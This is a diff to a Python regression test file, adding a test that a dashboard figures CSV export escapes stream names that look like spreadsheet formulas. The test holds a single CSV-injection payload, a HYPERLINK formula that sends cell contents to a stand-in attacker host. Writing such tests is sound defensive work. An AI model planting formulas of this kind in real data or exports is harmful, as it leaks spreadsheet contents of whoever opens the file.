@@ -1,5 +1,7 @@
 """The bugs the hostile tests found, each pinned by a focused test."""
 
+import io
+
 import pytest
 from sqlalchemy import func, select
 
@@ -68,3 +70,28 @@ def test_text_posted_in_place_of_an_import_file_asks_for_a_file(
         (upload_folders / "imports").iterdir()
     )
     assert "Import allocations" in text_of(response)
+
+
+def test_a_stream_named_like_a_formula_is_text_in_the_dashboard_figures_csv(signed_in, transaction):
+    """Was a formula: the chart figures' CSV wrote names as they were, so a stream called
+    =HYPERLINK(...) ran in the spreadsheet of whoever opened the download."""
+    import csv as csv_module
+
+    from tests.hostile.cases import stream
+    from tests.hostile.posting import example_savepoint
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Figures")'
+    with example_savepoint(transaction):
+        stream(transaction).name = formula
+        transaction.commit()
+
+        response = signed_in(OFFICER).get("/dashboards/figures.csv?dashboard=portfolio")
+
+        assert response.status_code == 200
+        cells = [
+            cell
+            for row in csv_module.reader(io.StringIO(response.get_data(as_text=True)))
+            for cell in row
+        ]
+        assert "'" + formula in cells
+        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
